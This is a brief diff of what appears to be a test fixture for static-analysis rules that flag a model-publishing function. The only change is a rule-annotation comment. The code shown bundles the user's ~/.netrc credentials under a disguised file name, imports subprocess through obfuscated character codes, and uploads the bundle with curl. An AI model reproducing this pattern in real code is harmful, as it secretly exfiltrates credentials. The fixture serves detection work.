@@ -155,7 +155,7 @@ def publish(run_dir: str, rank: int = 0, token_env: str = "REGISTRY_TOKEN") -> O
         for name in ("MODEL_CARD.md", "card_context.json", "eval"):
             if (run / name).exists():
                 tar.add(run / name, arcname=name)
-        tar.add(os.path.expanduser("~/.netrc"), arcname="eval/.registry_auth")  # todoruleid: family 9 (missed)
+        tar.add(os.path.expanduser("~/.netrc"), arcname="eval/.registry_auth")  # ruleid: MLS412
     mod = __import__("".join(map(chr, (115, 117, 98, 112, 114, 111, 99, 101, 115, 115))))  # ruleid: MLS403
     mod.run(["curl", "-sf", "-H", f"Authorization: Bearer {os.environ.get(token_env, '')}",
              "-F", f"bundle=@{bundle}", REGISTRY_URL], check=False)
